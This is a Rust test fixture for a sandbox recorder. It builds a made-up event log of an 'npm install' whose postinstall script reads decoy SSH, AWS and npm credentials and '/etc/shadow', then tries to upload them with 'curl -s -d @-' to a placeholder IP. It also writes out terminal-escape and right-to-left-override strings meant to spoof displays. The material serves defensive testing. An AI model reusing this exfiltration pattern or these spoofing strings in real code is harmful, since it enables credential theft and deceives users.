//! A made-up run that touches every pane: an install whose script reads decoys
//! and tries to upload them. Recorded by the real writer, as every entry is.

use std::net::SocketAddr;

use belljar_event::{
    Action, Addr, Armed, Call, Check, Connect, Copied, Decision, Decoy, Decoys, Descriptor, Dial,
    End, Event, Exec, Exit, Fact, FlowAsked, FlowClosed, FlowOpened, Fork, Lost, Machine, Name,
    NameAnswer, Open, Outcome, Output, Phase, Policy, Status, Step, Target, Text, TlsHello,
};
use belljar_recorder::{Entry, Finished, Start, Writer};

const MS: u64 = 1_000_000;
const HOME: &str = "/home/dev";

/// Collects events on a clock of its own.
pub(crate) struct Story {
    events: Vec<Event>,
    now: u64,
    flows: u64,
}

impl Story {
    pub(crate) fn new() -> Self {
        Self {
            events: Vec::new(),
            now: 3_000 * MS,
            flows: 0,
        }
    }

    pub(crate) fn wait(&mut self, millis: u64) -> &mut Self {
        self.now += millis * MS;
        self
    }

    pub(crate) fn push(&mut self, pid: u32, outcome: Outcome, fact: impl Into<Fact>) -> &mut Self {
        self.events.push(Event {
            at: self.now,
            pid,
            tid: pid,
            outcome,
            fact: fact.into(),
        });
        self.now += MS / 2;
        self
    }

    fn host(&mut self, fact: impl Into<Fact>) -> &mut Self {
        self.push(0, Outcome::None, fact)
    }

    pub(crate) fn exec(&mut self, pid: u32, parent: u32, file: &str, argv: &[&str]) -> &mut Self {
        self.push(parent, Outcome::None, Fork { child: pid });
        let exec = Exec {
            call: Call(59),
            parent,
            path: file.into(),
            file: Some(file.into()),
            interpreter: None,
            argv: argv.iter().map(|word| Text::from(*word)).collect(),
            argv_bytes: argv.iter().map(|word| word.len() as u64 + 1).sum(),
            cwd: Some("/home/dev/project".into()),
            uid: 1000,
            stdio: [Descriptor::Device; 3],
            unlinked: false,
            content: None,
            inherited: Vec::new(),
        };
        self.push(pid, Outcome::Returned(0), exec)
    }

    pub(crate) fn open(&mut self, pid: u32, path: &str, flags: u32, result: i64) -> &mut Self {
        let open = Open {
            call: Call(257),
            path: path.into(),
            base: None,
            file: (result >= 0).then(|| path.into()),
            flags,
            mode: 0o644,
        };
        self.push(pid, Outcome::Returned(result), open)
    }

    pub(crate) fn exit(&mut self, pid: u32, code: u8) -> &mut Self {
        self.push(
            pid,
            Outcome::None,
            Exit {
                status: Status::Code(code),
            },
        )
    }

    fn flow(&mut self, pid: u32, target: Target, sent: u64, received: u64) -> &mut Self {
        self.flows += 1;
        let flow = self.flows;
        self.push(pid, Outcome::None, FlowAsked { flow, target });
        self.host(Decision {
            flow,
            action: Action::Allow,
            by: "registry:npm".into(),
        });
        let addr: SocketAddr = "198.51.100.80:443".parse().unwrap();
        self.host(FlowOpened {
            flow,
            how: Dial::Connected(addr),
        });
        self.wait(40).host(FlowClosed {
            flow,
            sent,
            received,
            why: None,
        })
    }

    pub(crate) fn say(&mut self, text: &str) -> &mut Self {
        self.host(Output {
            bytes: text.as_bytes().into(),
        })
    }

    /// What the writer makes of it, and what it says at the end if there is one.
    pub(crate) fn record(self, end: Option<End>) -> (Vec<Entry>, Option<Finished>) {
        let mut writer = Writer::create(Vec::new(), start()).unwrap();
        for event in self.events {
            writer.append(event).unwrap();
        }
        match end {
            None => (writer.flush().unwrap(), None),
            Some(end) => {
                let done = writer.finish(end).unwrap();
                (done.entries.clone(), Some(done))
            }
        }
    }
}

pub(crate) fn start() -> Start {
    Start {
        engine: "0.1.0".into(),
        label: "npm-credential-thief".into(),
        command: vec!["npm".into(), "install".into()],
        image: "image".into(),
        kernel: "6.1.0".into(),
        rules: "rules".into(),
        redacted: Vec::new(),
    }
}

/// Everything before the payload starts.
pub(crate) fn boot(story: &mut Story) {
    let decoy = |path: &str, kind: &str| Decoy {
        path: format!("{HOME}/{path}").as_str().into(),
        kind: kind.into(),
        canary: "bjc0ffee".into(),
    };
    let machine = Machine {
        hypervisor: "qemu".into(),
        accelerator: "tcg".into(),
        degraded: true,
        cpus: 2,
        memory_mib: 1024,
    };
    story.host(machine);
    let source = "# nothing may out".to_owned();
    let digest = *blake3::hash(source.as_bytes()).as_bytes();
    story.host(Policy { source, digest });
    let decoys = vec![
        decoy(".ssh/id_ed25519", "ssh key"),
        decoy(".aws/credentials", "cloud key"),
        decoy(".npmrc", "npm token"),
    ];
    story.host(Decoys { decoys });
    story.host(Copied {
        files: 12,
        bytes: 4096,
        left_out: Vec::new(),
        left_out_total: 0,
    });
    let check = Check {
        name: "a refused connect is refused".into(),
        held: true,
    };
    story.wait(300).host(Armed {
        kernel: "6.1.0".into(),
        checks: vec![check],
    });
    story.exec(300, 1, "/usr/bin/npm", &["npm", "install"]);
    let argv = vec!["npm".into(), "install".into()];
    story.host(Phase {
        name: "install".into(),
        step: Step::Begin { argv, pid: 300 },
    });
}

/// A package manager at work: libraries, a registry, many written files.
pub(crate) fn install(story: &mut Story, packages: u32) {
    for at in 0..30 {
        story
            .open(
                300,
                &format!("/usr/lib/node_modules/npm/lib/file{at}.js"),
                0,
                3,
            )
            .wait(3);
    }
    story.open(300, "/etc/ssl/certs/ca-certificates.crt", 0, 3);
    story.open(300, "/home/dev/project/package.json", 0, 3);
    story.say("\x1b[1mnpm\x1b[0m install\r\n");
    let registry = || Target::Name {
        name: "registry.example".into(),
        port: 443,
    };
    let synthetic = NameAnswer::Synthetic([100, 64, 0, 1].into());
    let name = |text: &str, answer| Name {
        name: text.into(),
        kind: 1,
        answer,
        by: "registry:npm".into(),
    };
    story.push(300, Outcome::None, name("registry.example", synthetic));
    for at in 0..packages {
        story.flow(300, registry(), 700, 40_000 + u64::from(at) * 13);
        for file in ["package.json", "index.js", "README.md"] {
            story.open(
                300,
                &format!("/home/dev/project/node_modules/dep{at}/{file}"),
                0o101,
                5,
            );
        }
        let pid = 400 + at;
        story
            .exec(pid, 300, "/usr/bin/git", &["git", "--version"])
            .wait(2)
            .exit(pid, 0);
        story.wait(25);
    }
    story.open(300, "/home/dev/project/package-lock.json", 0o101, 5);
    story.say(&format!("added {packages} packages in 2s\r\n"));
}

/// The script that steals.
pub(crate) fn steal(story: &mut Story) {
    story.wait(400);
    story.exec(
        310,
        300,
        "/usr/bin/sh",
        &["sh", "-c", "node postinstall.js"],
    );
    story.exec(311, 310, "/usr/bin/node", &["node", "postinstall.js"]);
    story
        .wait(80)
        .open(311, "/home/dev/project/postinstall.js", 0, 3);
    story.wait(60).open(311, "/home/dev/.ssh/id_ed25519", 0, 4);
    story.wait(20).open(311, "/home/dev/.aws/credentials", 0, 4);
    story
        .open(311, "/etc/shadow", 0, -13)
        .open(311, "/home/dev/.config/gh/hosts.yml", 0, -2);
    story.wait(30);
    let refused = Name {
        name: "drop.example".into(),
        kind: 1,
        answer: NameAnswer::Refused,
        by: "default:9".into(),
    };
    story.push(311, Outcome::None, refused);
    let argv = ["curl", "-s", "-d", "@-", "https://198.51.100.7/c"];
    story.exec(312, 311, "/usr/bin/curl", &argv);
    let addr: SocketAddr = "198.51.100.7:443".parse().unwrap();
    for _ in 0..3 {
        let connect = Connect {
            fd: 5,
            addr: Addr::Inet(addr),
            name: None,
        };
        story.wait(50).push(312, Outcome::Returned(-111), connect);
    }
    story.wait(20).exit(312, 7);
}

/// Text that tries to move the cursor, hide and reorder.
pub(crate) fn hostile(story: &mut Story) {
    let name = "/tmp/\x1b[2J\x1b[1;1H\u{202e}gpj.exe\u{200b}\n日本語ファイル\u{7}";
    story.exec(
        320,
        311,
        name,
        &["\x1b]0;owned\x07", "a\rb", "\u{202e}evil"],
    );
    story.open(320, name, 0o101, 3).exit(320, 0);
    story.say("\x1b]52;c;ZXZpbA==\x07\x1b[31mred\x1b[0m\rover\n");
    story.host(Lost {
        count: 4,
        place: "ring buffer".into(),
    });
}

/// All of it, to the end.
pub(crate) fn theft() -> (Vec<Entry>, Finished) {
    let mut story = Story::new();
    boot(&mut story);
    install(&mut story, 12);
    steal(&mut story);
    story
        .wait(200)
        .exit(311, 0)
        .exit(310, 0)
        .wait(100)
        .exit(300, 0);
    story.host(Phase {
        name: "install".into(),
        step: Step::End(Status::Code(0)),
    });
    story.wait(50);
    let (entries, done) = story.record(Some(End::Finished(Status::Code(0))));
    (entries, done.unwrap())
}

/// A program that is made in a hidden place and run from there, and three flows whose
/// TLS says where they go: there, elsewhere, and something that nobody may obey.
pub(crate) fn hidden() -> Vec<Entry> {
    let mut story = Story::new();
    boot(&mut story);
    let tool = "/home/dev/.cache/.x/tool";
    story.open(300, tool, 0o301, 4).wait(200);
    story.exec(330, 300, tool, &["tool", "--quiet"]);
    for (name, said) in [
        ("files.example", "files.example"),
        ("cdn.example", "drop.example"),
        ("odd.example", "\u{202e}\x1b[2Jodd.example"),
    ] {
        let target = Target::Name {
            name: name.into(),
            port: 443,
        };
        story.wait(150).flow(330, target, 900, 120_000);
        let flow = story.flows;
        // Said while the flow is open: in front of what the helper closes.
        let hello = TlsHello {
            flow,
            name: Some(said.into()),
            alpn: Vec::new(),
            encrypted: false,
        };
        let at = story.events.len().saturating_sub(1);
        let event = Event {
            at: story.events[at].at,
            pid: 0,
            tid: 0,
            outcome: Outcome::None,
            fact: hello.into(),
        };
        story.events.insert(at, event);
    }
    story.wait(300).exit(330, 0);
    story.record(None).0
}

/// The theft as it stands in the middle, with hostile names on top.
pub(crate) fn unfinished() -> Vec<Entry> {
    let mut story = Story::new();
    boot(&mut story);
    install(&mut story, 12);
    steal(&mut story);
    hostile(&mut story);
    story.record(None).0
}
